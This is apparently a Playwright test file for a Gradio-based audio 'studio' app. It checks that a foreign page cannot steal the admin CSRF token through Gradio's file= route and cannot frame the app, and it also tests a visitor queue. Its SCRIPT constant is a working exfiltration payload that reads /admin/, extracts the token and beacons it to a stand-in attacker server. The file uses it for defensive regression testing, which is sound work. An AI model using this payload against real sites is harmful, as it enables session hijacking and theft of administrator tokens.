"""A stranger's page against the studio beside /admin, in a real browser, from an origin of its own."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import unquote

import pytest
import safehttpx
import studio_fakes
from conftest import Visitor
from playwright.sync_api import expect
from studio_visits import serving

from benchmarks.mos_kills import sample_study
from savg.mos.storage.store import Store, sqlite_url
from savg.mos.web.studies import Studies
from savg.studio import build
from savg.studio.listening.hosted import Hosted

PASSWORD = "a long password"

SCRIPT = """<html><body>stranger<script>
(async () => {
  const page = await (await fetch('/admin/')).text();
  const token = (page.match(/name="csrf" value="([^"]+)"/) || [])[1] || 'nothing';
  new Image().src = 'STRANGER/stolen/' + token;
})();
</script></body></html>"""

FRAME = """<html><body><iframe src="ADDRESS"></iframe></body></html>"""


class Stranger(BaseHTTPRequestHandler):
    """Another site; it keeps what it learns."""

    paths: ClassVar[list[str]] = []
    own: ClassVar[str] = ""
    frame: ClassVar[str] = ""

    def do_GET(self) -> None:
        self.paths.append(self.path)
        text = FRAME.replace("ADDRESS", self.frame) if self.path == "/frame" else SCRIPT
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(text.replace("STRANGER", self.own).encode())

    def log_message(self, *args: Any) -> None:
        pass

    @classmethod
    def stolen(cls) -> list[str]:
        return [unquote(p.split("/stolen/")[1]) for p in cls.paths if "/stolen/" in p]


@pytest.fixture
def stranger(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """Gradio fetches from public addresses alone; here this machine counts as one."""

    async def validate(host: str) -> str:
        return host

    monkeypatch.setattr(safehttpx, "async_validate_url", validate)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    Stranger.paths.clear()
    Stranger.own = f"http://127.0.0.1:{server.server_port}"
    yield Stranger.own
    server.shutdown()


@contextmanager
def studio_with_admin(
    folder: Path, monkeypatch: pytest.MonkeyPatch, **options: Any
) -> Iterator[str]:
    """The address of a studio with a listening test."""
    monkeypatch.setenv("SAVG_ADMIN_PASSWORD", PASSWORD)
    (folder / "trial" / "media").mkdir(parents=True)
    store = Store(sqlite_url(folder / "trial" / "study.sqlite"))
    sample_study(store, "trial")
    store.close()
    (folder / "trial" / "study.json").write_text('{"study": "trial", "database": "study.sqlite"}')
    hosted = Hosted(Studies([folder / "trial"]))
    studio = build(studio_fakes.services(seconds=0.005), datasets=(), hosted=hosted)
    if "app_kwargs" in options:
        options["app_kwargs"] = {"routes": hosted.routes()}
    with serving(studio, **options) as address:
        yield address


def log_in(page: Any, address: str) -> None:
    page.goto(f"{address}/admin/")
    page.fill("#password", PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_selector("text=trial")


@pytest.mark.parametrize("guarded", [False, True])
def test_a_strangers_script_does_not_reach_the_organiser(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stranger: str, guarded: bool
) -> None:
    """Without the layer before Gradio's routes it reads the organiser's token, with it it does not."""
    options: dict[str, Any] = {} if guarded else {"app_kwargs": {}}
    with studio_with_admin(tmp_path, monkeypatch, **options) as address:
        page = browser.new_page()
        log_in(page, address)
        for path in (f"file={stranger}/x.png", f"file=HTTP{stranger[4:]}/x.png"):
            page.goto(f"{address}/gradio_api/{path}")
            page.wait_for_load_state("networkidle")
            if not guarded:
                break
        if guarded:
            assert "Only files of this studio" in page.content()
            assert Stranger.paths == []
        else:
            deadline = time.monotonic() + 60
            while not Stranger.stolen() and time.monotonic() < deadline:
                page.wait_for_timeout(100)
            assert len(Stranger.stolen()) == 1 and len(Stranger.stolen()[0]) > 20
        page.close()


@pytest.mark.parametrize("path", ["/", "/listen/trial", "/admin/"])
def test_a_stranger_cannot_show_it_in_a_frame(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stranger: str, path: str
) -> None:
    with studio_with_admin(tmp_path, monkeypatch) as address:
        page = browser.new_page()
        page.goto(f"{address}{path}")
        page.locator("body *").nth(3).wait_for(state="attached")
        Stranger.frame = f"{address}{path}"
        # Another site's page in a frame of its own process: "localhost" is another site than 127.0.0.1.
        page.goto(stranger.replace("127.0.0.1", "localhost") + "/frame")
        page.wait_for_load_state("networkidle")
        (frame,) = page.frames[1:]
        assert frame.url.startswith("chrome-error:") or not frame.content().count("<script")
        page.close()


def test_those_who_wait_see_their_place(browser: Any, tmp_path: Path, record_property: Any) -> None:
    """The second visitor is told how many are before, and about how long it takes."""
    studio = build(studio_fakes.services(seconds=0.05), datasets=(), hosted=Hosted())
    with serving(studio) as address:
        first, second = (Visitor(browser.new_page(), address) for _ in range(2))
        for visitor in (first, second):
            visitor.arrive()
            visitor.page.locator("#savg-steps input[type=number]").fill("100")
            visitor.page.locator("#savg-steps input[type=number]").press("Tab")
        first.page.locator("#savg-go").click()
        first.page.wait_for_function(
            "/step [1-9]\\d /.test(document.querySelector('.sg-text').textContent)"
        )
        second.page.locator("#savg-go").click()
        text = "document.querySelector('.sg-text').textContent"
        second.page.wait_for_function(
            f"/In the queue .position 2.: about \\d+ (s|min)/.test({text})"
        )
        shot = tmp_path / "waiting.png"
        second.page.screenshot(path=shot)
        record_property("screenshot", str(shot))
        expect(second.page.locator("#savg-go")).to_be_disabled()
        expect(second.page.locator("#savg-stop")).to_be_enabled()
        second.page.locator("#savg-stop").click()
        second.page.wait_for_function(f"{text}.startsWith('Stopped before')")
        # Gradio drops a click that comes before the answer to the one before has ended.
        second.page.wait_for_function(
            "() => { if (!document.querySelector('.sg-text').textContent.startsWith('Stopped'))"
            " return true; document.querySelector('#savg-go').click(); return false; }",
            polling=1000,
        )
        for visitor in (first, second):
            visitor.page.wait_for_function(f"{text}.startsWith('Done: 1 clip')")
            assert visitor.problems == [] and visitor.off_host() == []
            visitor.page.close()
